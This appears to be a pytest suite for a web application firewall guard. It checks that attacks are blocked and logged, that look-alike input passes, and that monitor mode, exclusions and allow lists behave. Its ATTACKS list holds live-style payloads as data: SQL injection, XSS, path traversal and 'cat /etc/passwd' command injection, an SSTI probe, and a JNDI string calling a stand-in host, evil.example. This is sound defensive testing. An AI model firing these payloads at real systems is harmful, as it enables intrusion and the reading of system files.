"""The waf guard in front of the example app: attacks in each part of a request are answered 403
with an event id and never reach the application, look-alikes pass, and every finding is a
security event in the access log. Monitor mode, exclusions per argument and per route, and the
client allow list."""
import pytest

from helpers import wait_until

ATTACKS = [
    # (description, method, path, kwargs)
    ("sqli in the query", "GET", "/echo?id=1%27%20or%20%271%27%3D%271", {}),
    ("union select in the query", "GET", "/echo?id=1+union+select+null,version()--", {}),
    ("xss in the query", "GET", "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E", {}),
    ("traversal in the path", "GET", "/echo/..%2f..%2f..%2fetc%2fpasswd", {}),
    ("xss in a form field", "POST", "/form",
     {"data": {"comment": "<img src=x onerror=alert(document.cookie)>"}}),
    ("sqli in JSON", "POST", "/echo",
     {"json": {"user": {"name": "admin' OR 1=1 --"}}}),
    ("ssti in a header", "GET", "/echo", {"headers": {"X-Name": "{{config.__class__.__init__.__globals__}}"}}),
    ("command injection in a cookie", "GET", "/echo", {"cookies": {"pref": "x; cat /etc/passwd"}}),
    ("jndi in the user agent", "GET", "/echo", {"headers": {"User-Agent": "${jndi:ldap://evil.example/a}"}}),
]

BENIGN = [
    ("prose with SQL words", "GET", "/echo?q=union+was+a+great+select+of+players", {}),
    ("an apostrophe in a name", "POST", "/form", {"data": {"name": "Siobhán O'Brien", "city": "Cork"}}),
    ("a price and an address", "POST", "/echo", {"json": {"price": "£12.50", "address": "1 Main St. #4"}}),
    ("markdown", "POST", "/form", {"data": {"comment": "Use `select * from t` in **psql**; see [docs](https://example.com)."}}),
    ("a binary upload", "POST", "/upload", {"data": bytes(range(256)) * 400,
                                            "headers": {"Content-Type": "application/octet-stream"}}),
]


def waf_events(entry):
    return [e for e in entry["rampart.events"] if e["guard"] == "waf"]


@pytest.mark.parametrize("what,method,path,kw", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_attack_is_blocked_with_an_event_id(start_rampart, upstream, what, method, path, kw):
    rp = start_rampart()
    r = rp.request(method, path, **kw)
    assert r.status_code == 403, (what, r.status_code, r.text[:200])
    event_id = r.headers["X-Rampart-Event"]
    assert len(event_id) == 16
    assert event_id in r.text
    # Nothing of the detection is told to the client.
    for word in ("sql", "xss", "score", "union", "script", "traversal"):
        assert word not in r.text.lower()
    entry = rp.wait_for_log_entry(lambda e: e["http.response.status_code"] == 403)
    events = waf_events(entry)
    assert events, entry
    assert all(e["action"] == "blocked" for e in events)
    assert any(event_id in e["reason"] for e in events)


@pytest.mark.parametrize("what,method,path,kw", BENIGN, ids=[b[0] for b in BENIGN])
def test_look_alikes_pass(start_rampart, what, method, path, kw):
    rp = start_rampart()
    r = rp.request(method, path, **kw)
    assert r.status_code in (200, 201), (what, r.status_code, r.text[:300])


def test_blocked_request_never_reaches_the_app(start_rampart, own_upstream):
    rp = start_rampart(upstream_url=own_upstream.url)
    marker = "waf-marker-7d1f"
    r = rp.get(f"/echo?{marker}=1%27%20or%20%271%27%3D%271")
    assert r.status_code == 403
    assert rp.get(f"/echo?{marker}=hello").status_code == 200
    # gunicorn's own access log: the benign request arrived, the attack never did.
    wait_until(lambda: f"{marker}=hello" in own_upstream.process.stdout(),
               what="the benign request in gunicorn's access log")
    assert f"{marker}=1" not in own_upstream.process.stdout()


def test_monitor_mode_logs_and_lets_through(start_rampart):
    rp = start_rampart(guards={"waf": {"mode": "monitor"}})
    r = rp.get("/echo?id=1+union+select+null,version()--")
    assert r.status_code == 200
    entry = rp.wait_for_log_entry(lambda e: waf_events(e))
    assert {e["action"] for e in waf_events(entry)} == {"logged"}
    assert entry["http.response.status_code"] == 200


def test_exclusion_for_a_rich_text_field(start_rampart):
    rp = start_rampart(guards={"waf": {"exclusions": [{"part": "body-form", "name": "content",
                                                       "detector": "xss"}]}})
    html = "<p>Hello <b>world</b> <img src=x onerror=alert(1)></p>"
    assert rp.post("/form", data={"content": html}).status_code == 200
    # Only that field, only that detector.
    assert rp.post("/form", data={"title": html}).status_code == 403
    assert rp.post("/form", data={"content": "1' or '1'='1"}).status_code == 403


def test_route_turns_the_waf_off(start_rampart):
    rp = start_rampart(routes=[{"path": "/upload", "guards": {"waf": False}}])
    assert rp.post("/upload", data={"file": "<script>alert(1)</script>"}).status_code == 200
    assert rp.post("/form", data={"file": "<script>alert(1)</script>"}).status_code == 403


def test_allow_list_skips_inspection(start_rampart):
    rp = start_rampart(guards={"waf": {"allow": ["127.0.0.0/8"]}})
    assert rp.get("/echo?q=%3Cscript%3Ealert(1)%3C/script%3E").status_code == 200


def test_body_beyond_the_limit_is_counted(start_rampart):
    rp = start_rampart(guards={"waf": {"body_limit": "1KiB"}})
    body = "a=" + "x" * 4000 + "&b=<script>alert(1)</script>"
    r = rp.post("/echo", data=body, headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 200  # the attack is past what is inspected
    entry = rp.wait_for_log_entry(lambda e: e["url.path"] == "/echo" and e["http.request.method"] == "POST")
    rules = [e["rule"] for e in waf_events(entry)]
    assert "body_not_inspected" in rules
    echoed = r.json()
    assert echoed["body_bytes"] == len(body)  # the whole body reached the app


def test_bad_waf_settings_name_the_line(rampart_bin, tmp_path):
    import subprocess
    cfg = tmp_path / "waf.yaml"
    cfg.write_text("upstream: http://127.0.0.1:8000\nguards:\n  waf:\n    sensitivity: {sqlj: 2}\n"
                   "    threshold: 0\n")
    r = subprocess.run([str(rampart_bin), "check-config", str(cfg)], capture_output=True, text=True)
    assert r.returncode == 1
    assert f"{cfg}:4: guards.waf.sensitivity.sqlj: unknown detector" in r.stderr
    assert f"{cfg}:5: guards.waf.threshold: expected a whole number from 1 to 100, got '0'" in r.stderr
